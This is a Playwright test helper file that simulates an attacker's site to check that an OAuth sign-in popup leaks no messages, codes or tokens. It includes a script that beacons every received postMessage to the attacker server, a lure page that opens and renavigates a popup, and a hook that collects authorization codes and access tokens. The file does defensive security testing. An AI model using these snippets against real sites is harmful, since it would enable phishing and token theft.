import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type BrowserContext, expect, type Page } from '@playwright/test';

/** A page of an attacker, on an origin of its own. */
export interface AttackerSite {
  url: string;
  origin: string;
  /**
   * Everything that reached the site, as text: addresses, headers and bodies of requests, and messages to its
   * pages.
   */
  received: string[];
  close(): void;
}

/** Sends each message that reaches the page to the server, where it survives the page. */
const LISTEN = `<script>
  addEventListener('message', ({ data, origin }) => {
    navigator.sendBeacon('/message', JSON.stringify({ data, origin }));
  });
</script>`;

/** Serves the attacker's page at every path, and records what arrives. */
export async function openAttackerSite(html: (origin: string) => string): Promise<AttackerSite> {
  const received: string[] = [];
  let origin = '';
  const server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += chunk;
    received.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`);
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(`<!doctype html><title>Free coffee</title>${LISTEN}${html(origin)}`);
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  origin = `http://localhost:${(server.address() as AddressInfo).port}`;
  return {
    url: `${origin}/`,
    origin,
    received,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

/** Collects every authorization code and every token that passes through the browser. */
export function watchSecrets(context: BrowserContext): string[] {
  const secrets: string[] = [];
  context.on('request', (request) => {
    const code = new URL(request.url()).searchParams.get('code');
    if (code) secrets.push(code);
  });
  context.on('response', async (response) => {
    if (!response.url().endsWith('/oauth/token')) return;
    const tokens = await response.json().catch(() => ({}));
    for (const name of ['access_token', 'refresh_token']) if (tokens[name]) secrets.push(tokens[name]);
  });
  return secrets;
}

/**
 * Asserts that no message reached the attacker's page. The page stays open, so it would have reported one by
 * now.
 */
export async function expectNoMessage(page: Page, attacker: AttackerSite): Promise<void> {
  await page.evaluate(() => fetch('/asked'));
  await expect.poll(() => attacker.received.some((text) => text.startsWith('GET /asked'))).toBe(true);
  expect(attacker.received.filter((text) => text.startsWith('POST /message'))).toEqual([]);
}

/** Returns HTML with a button that opens an address in a new window. */
export const pageThatOpens = (url: string) =>
  `<button id="go">Win free coffee</button><script>go.onclick = () => { window.prize = window.open(${JSON.stringify(url)}, 'prize', 'width=480,height=640'); };</script>`;

/** Properties of a popup that the page which opened it can read, whatever the popup shows. */
export interface VisibleToOpener {
  closed: boolean;
  frames: number;
  /** Entries of the popup's history. The attacker's page reads them after it has navigated the popup to itself. */
  entries: number;
}

/** Reads everything that an attacker's page can learn about the popup that {@link pageThatOpens} opened. */
export async function readAsOpener(
  page: Page,
  popup: Page,
  attacker: AttackerSite,
): Promise<VisibleToOpener> {
  const { closed, length: frames } = await page.evaluate(() => {
    const { prize } = window as unknown as { prize: Window };
    return { closed: prize.closed, length: prize.length };
  });
  if (closed) return { closed, frames, entries: 0 };
  await page.evaluate((url) => {
    (window as unknown as { prize: Window }).prize.location.href = url;
  }, attacker.url);
  await popup.waitForURL(attacker.url);
  return { closed, frames, entries: await popup.evaluate(() => history.length) };
}

/** Clicks the only button of an attacker's page and returns the popup. */
export async function clickForPopup(page: Page): Promise<Page> {
  const opened = page.waitForEvent('popup');
  await page.getByRole('button').click();
  return opened;
}

/** Asserts that a callback shows a failed sign-in. */
export async function expectFailedSignIn(popup: Page): Promise<void> {
  await expect(popup.getByRole('main')).toContainText('Sign-in could not be completed');
  await expect(popup.getByRole('link', { name: 'Try again' })).toBeVisible();
}
